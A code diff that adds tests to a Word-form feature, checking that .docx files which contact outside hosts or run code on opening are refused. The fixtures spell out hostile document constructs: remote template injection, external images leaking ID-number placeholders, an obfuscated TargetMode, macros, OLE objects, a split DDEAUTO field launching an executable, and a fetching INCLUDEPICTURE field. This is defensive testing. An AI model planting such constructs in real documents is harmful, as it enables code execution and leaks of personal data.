@@ -1,7 +1,7 @@
 /** Forms in Word: whatever an office writes into them, what is known stands in them and nothing else happens. */
 import JSZip from 'jszip'
 import { describe, expect, it } from 'vitest'
-import { filledForm, NotAForm, sampleForm, tagsOf } from '#features/templates/form'
+import { filledForm, NotAForm, ReachesOut, sampleForm, tagsOf } from '#features/templates/form'
 
 /** A sample with another text in its body, as an office that writes its own. */
 async function formWith(body: string, more: Readonly<Record<string, string>> = {}): Promise<Uint8Array> {
@@ -89,6 +89,42 @@ describe('a form', () => {
     expect(await textsIn(filledForm(form, { 告知内容: '一、身份证\n二、户口簿' }))).toContain(
       '一、身份证\n二、户口簿',
     )
+  })
+})
+
+describe('a form that reaches out when its paper is opened', () => {
+  const relationship = (type: string, target: string) =>
+    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
+  const rels = 'word/_rels/settings.xml.rels'
+  const field = (...codes: readonly string[]) =>
+    `<w:p>${codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('')}</w:p>`
+
+  it.each<[string, string, Readonly<Record<string, string>>]>([
+    [
+      'a template on the network',
+      '',
+      { [rels]: relationship('attachedTemplate', 'https://a.example/t.dotm') },
+    ],
+    ['a template on a share', '', { [rels]: relationship('attachedTemplate', 'file://share/t.dotm') }],
+    ['a picture from elsewhere', '', { [rels]: relationship('image', 'http://a.example/{身份证号}.png') }],
+    [
+      'a template whose words are hidden',
+      '',
+      { [rels]: relationship('attachedTemplate', 'https://a.example').replace('External', 'Ex&#116;ernal') },
+    ],
+    ['a macro', '', { 'word/vbaProject.bin': 'x' }],
+    ['an object of another program', '', { 'word/embeddings/oleObject1.bin': 'x' }],
+    ['a field that starts a program, in pieces', field(' DD', 'EAUTO c:\\\\x.exe '), {}],
+    ['a field that fetches', field(' INCLUDEPICTURE "http://a.example/{姓名}" '), {}],
+  ])('is refused: %s', async (_what, body, more) => {
+    expect(await refusal(await formWith(body, more))).toBeInstanceOf(ReachesOut)
+  })
+
+  it('is none with a link to click, a template of one’s own disk, a page number', async () => {
+    const more = { [rels]: relationship('attachedTemplate', 'file:///C:\\Users\\wang\\Normal.dotm') }
+    expect(await refusal(await formWith(field(' PAGE ', ' HYPERLINK "https://a.example" '), more))).toBeNull()
+    const link = { 'word/_rels/a.rels': relationship('hyperlink', 'https://a.example') }
+    expect(await refusal(await formWith('', link))).toBeNull()
   })
 })
 
